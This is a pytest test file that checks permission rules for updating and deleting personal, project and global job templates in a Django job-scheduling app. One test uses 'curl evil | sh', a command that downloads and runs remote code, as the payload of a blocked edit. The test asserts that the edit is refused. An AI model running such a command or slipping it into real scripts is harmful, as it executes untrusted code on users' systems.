"""job_template_update and job_template_delete: whose jobs run a template decides who changes it."""

import pytest

from accounts.errors import NotAllowed
from accounts.services import membership_set, project_create
from jobs.models import JobTemplate
from jobs.services import job_template_create, job_template_delete, job_template_update

pytestmark = pytest.mark.django_db


def personal(owner) -> JobTemplate:
    return job_template_create(user=owner, name="train", script="python train.py\n", defaults={})


def test_a_manager_cannot_change_a_researchers_personal_template(manny, alice):
    template = personal(alice)
    with pytest.raises(NotAllowed) as refusal:
        job_template_update(user=manny, template=template, script="curl evil | sh\n")
    assert "This is alice's personal template: only they can change it" in str(refusal.value)
    template.refresh_from_db()
    assert template.script == "python train.py\n"


def test_the_owner_changes_their_template_and_another_researcher_cannot(alice, bob):
    template = personal(alice)
    job_template_update(user=alice, template=template, script="python train.py --fast\n")
    template.refresh_from_db()
    assert template.script == "python train.py --fast\n"
    with pytest.raises(NotAllowed):
        job_template_update(user=bob, template=template, name="bob's now")


def test_a_manager_cannot_change_a_projects_template_but_its_pi_can(manny, alice, bob):
    project = project_create(slug="tpl", name="Templates", slurm_account="tpl")
    membership_set(project=project, user=alice, role="pi")
    membership_set(project=project, user=bob, role="member")
    template = job_template_create(
        user=alice, scope="project", project=project, name="team", script="true\n", defaults={}
    )
    for stranger in (manny, bob):
        with pytest.raises(NotAllowed, match="Only the project's PI and co-PIs"):
            job_template_update(user=stranger, template=template, script="false\n")
    job_template_update(user=alice, template=template, script="echo team\n")
    template.refresh_from_db()
    assert template.script == "echo team\n"


def test_global_templates_stay_the_managers(manny, alice):
    template = job_template_create(
        user=manny, scope="global", name="for all", script="true\n", defaults={}
    )
    job_template_update(user=manny, template=template, script="echo all\n")
    with pytest.raises(NotAllowed, match="Only allocation managers"):
        job_template_update(user=alice, template=template, script="false\n")
    template.refresh_from_db()
    assert template.script == "echo all\n"


def test_a_manager_may_still_remove_a_personal_template(manny, alice):
    template = personal(alice)
    job_template_delete(user=manny, template=template)
    assert not JobTemplate.objects.filter(pk=template.pk).exists()
